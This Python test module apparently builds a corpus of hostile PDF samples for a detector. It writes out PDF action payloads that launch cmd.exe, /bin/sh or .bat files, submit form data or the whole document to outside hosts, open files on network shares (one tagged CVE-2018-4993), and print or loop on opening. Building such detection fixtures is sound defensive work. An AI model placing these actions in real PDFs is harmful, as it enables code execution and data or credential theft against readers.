"""Hostile PDFs that act: on opening, by starting programs, sending data, reaching for other files.

Every action of ISO 32000-2 §12.6.4, and what "Portable Document Flaws 101" and the generators built upon it add.
"""

from tests.documents.building import one_page, pdf, stream
from tests.documents.corpus.places import SHARE, WEB, acting, annotated, drawn_from, field, in_catalog, on_page
from tests.documents.corpus.sample import bad

AUTOMATIC = (
    bad("automatic_action", "PDF with actions on its page", lambda: on_page(b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>")),
    bad("automatic_action", "PDF that opens an address", lambda: in_catalog(b"/OpenAction<</S/URI/URI(%s)>>" % WEB)),
    bad("automatic_action", "PDF that acts when pointed at", lambda: annotated(b"/AA<</E<</S/URI/URI(%s)>>>>" % WEB)),
    bad("automatic_action", "PDF that acts when its page closes", lambda: annotated(b"/AA<</PC<</S/Hide/T(a)>>>>")),
    bad("automatic_action", "PDF that acts before it prints", lambda: in_catalog(b"/AA<</WP<</S/Named/N/Print>>>>")),
    bad("automatic_action", "PDF that prints on opening", lambda: in_catalog(b"/OpenAction<</S/Named/N/Print>>")),
    bad(
        "automatic_action",
        "PDF that quits the reader",
        lambda: in_catalog(b"/OpenAction 5 0 R", {5: b"<</S/Named/N/Quit>>"}),
    ),
    bad("automatic_action", "PDF that clears its form on opening", lambda: in_catalog(b"/OpenAction<</S/ResetForm>>")),
    bad(
        "automatic_action",
        "PDF that shows a layer on opening",
        lambda: in_catalog(b"/OpenAction<</S/SetOCGState/State[/ON]>>"),
    ),
    bad(
        "automatic_action",
        "PDF that turns its pages without end",
        lambda: in_catalog(b"/OpenAction 5 0 R", {5: b"<</S/Named/N/NextPage/Next 5 0 R>>"}),
    ),
    bad(
        "automatic_action",
        "PDF whose field acts on each key",
        lambda: field(b"/AA<</K<</S/SubmitForm/F(%s)>>>>" % WEB),
    ),
    bad(
        "automatic_action",
        "PDF that opens with an action of no kind",
        lambda: in_catalog(b"/OpenAction<</D[3 0 R/Fit]>>"),
    ),
)

LAUNCHES = (
    bad("launch_action", "PDF that starts a program", lambda: acting(b"/S/Launch/F(calc.exe)")),
    bad(
        "launch_action",
        "PDF that starts a program on Windows",
        lambda: acting(b"/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>"),
    ),
    bad("launch_action", "PDF that prints another file", lambda: acting(b"/S/Launch/Win<</F(a.doc)/O(print)>>")),
    bad("launch_action", "PDF that starts a program on Unix", lambda: acting(b"/S/Launch/Unix<</F(/bin/sh)>>")),
    bad(
        "launch_action",
        "PDF that launches an address",
        lambda: in_catalog(b"/OpenAction<</S/Launch/F<</FS/URL/F(%s)>>>>" % WEB),
    ),
    bad("launch_action", "PDF that sends its form", lambda: acting(b"/S/SubmitForm/F(http://example.cn)")),
    bad(
        "launch_action",
        "PDF that sends itself whole",
        lambda: acting(b"/S/SubmitForm/Flags 256/F<</FS/URL/F(%s)>>" % WEB),
    ),
    bad("launch_action", "PDF that takes in a form's data", lambda: acting(b"/S/ImportData/F(%s)" % SHARE)),
    bad("launch_action", "PDF that opens another file", lambda: acting(b"/S/GoToR/F(//host/share)/D[0/Fit]")),
    bad(
        "launch_action",
        "PDF that opens a file on a share",
        lambda: in_catalog(b"/OpenAction<</S/GoToR/F(%s)/D[0/Fit]>>" % SHARE),
    ),
    bad(
        "launch_action",
        "PDF that opens a file within a file",
        lambda: on_page(b"/AA<</O<</S/GoToE/F(%s)/D[0/Fit]>>>>" % SHARE),
    ),  # CVE-2018-4993
    bad(
        "launch_action",
        "PDF that opens a script as a file within",
        lambda: acting(b"/S/GoToE/F<</F(javascript:alert\\(1\\))>>"),
    ),
    bad("launch_action", "PDF that follows an article elsewhere", lambda: acting(b"/S/Thread/F(%s)/D 0" % SHARE)),
    bad(
        "launch_action",
        "PDF that follows an article on the web",
        lambda: acting(b"/S/Thread/F<</FS/URL/F(%s)>>/D 0" % WEB),
    ),
    bad(
        "launch_action",
        "PDF whose stream lies elsewhere",
        lambda: pdf(one_page() | {4: stream(b"", b"/F(//host/share)")}),
    ),
    bad(
        "launch_action",
        "PDF whose picture lies on the web",
        lambda: drawn_from(b"/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(%s)>>" % WEB),
    ),
    bad(
        "launch_action",
        "PDF whose page is a page of another",
        lambda: drawn_from(b"/Subtype/Form/Ref<</F(%s)/Page 0>>" % SHARE),
    ),
    bad(
        "launch_action",
        "PDF whose picture has a better one elsewhere",
        lambda: drawn_from(b"/Subtype/Image/Width 1/Height 1/OPI<</2.0<</F(%s)>>>>" % SHARE),
    ),
    bad(
        "launch_action",
        "PDF with an address as a file, kept apart",
        lambda: in_catalog(b"/X 5 0 R", {5: b"<</Type/Filespec/FS/URL/UF 6 0 R>>", 6: b"(%s)" % WEB}),
    ),
    bad(
        "launch_action",
        "PDF whose outline starts a program",
        lambda: in_catalog(b"/Outlines<</First 5 0 R/Last 5 0 R>>", {5: b"<</Title(a)/A<</S/Launch/F(a.bat)>>>>"}),
    ),
    bad(
        "launch_action",
        "PDF whose field sends as it is left",
        lambda: field(b"/AA<</Bl<</S/SubmitForm/F(%s)>>>>" % WEB),
    ),
)

SAMPLES = AUTOMATIC + LAUNCHES
